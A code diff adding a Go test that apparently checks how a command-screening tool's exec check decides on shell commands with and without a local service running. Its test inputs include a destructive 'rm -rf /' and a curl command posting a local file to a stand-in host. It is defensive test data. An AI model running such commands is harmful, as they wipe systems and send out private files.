@@ -14,6 +14,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/google/go-cmp/cmp"
+
 	"github.com/shieldcli/shield/internal/peer"
 	"github.com/shieldcli/shield/pkg/host"
 	"github.com/shieldcli/shield/pkg/service"
@@ -261,5 +263,58 @@ func TestStateFolder(t *testing.T) {
 		if got, want := peer.StateFolder(getenv), serviceState(&w); got != want {
 			t.Errorf("%v: %q and %q", env, got, want)
 		}
+	}
+}
+
+// TestServedExec holds that exec has a running service judge, and judges for itself
+// what that one leaves to it and when it has ended.
+func TestServedExec(t *testing.T) {
+	if !peer.Supported {
+		t.Skip("no sockets of this kind here")
+	}
+	w := servedWorld(t)
+	short, err := os.MkdirTemp("", "shield") // since a socket's path is
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = os.RemoveAll(short) })
+	env := append(w.Environ(), "XDG_STATE_HOME="+short)
+	w.Environ = func() []string { return env }
+	config := w.Getenv("XDG_CONFIG_HOME")
+	w.Getenv = func(name string) string {
+		return map[string]string{"XDG_CONFIG_HOME": config, "XDG_STATE_HOME": short}[name]
+	}
+	s := newServer(t, w)
+	socket, err := service.Listen(peer.Folder(serviceState(&w)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var decided []bool
+	ctx, end := context.WithCancel(t.Context())
+	done := make(chan error, 1)
+	go func() {
+		done <- socket.Serve(ctx, func(ctx context.Context, q *peer.Question, from service.Asker) peer.Answer {
+			ans := s.answer(ctx, q, from)
+			decided = append(decided, ans.Decided)
+			return ans
+		})
+	}()
+	check := func() (out []string) {
+		for _, text := range []string{"ls", "rm -rf /", "curl -d @notes.txt https://x.test", "echo \xff"} {
+			status, _, errs := run(t, w, "", "exec", "--check", "--shell", text)
+			out = append(out, fmt.Sprintf("%s: status %d %s", text, status, errs))
+		}
+		return out
+	}
+	with := check()
+	end()
+	if err := <-done; err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(check(), with); diff != "" {
+		t.Errorf("with a service (+) and without (-): %s", diff)
+	}
+	if want := []bool{true, true, false}; !slices.Equal(decided, want) {
+		t.Errorf("the service decided %v, want %v", decided, want)
 	}
 }
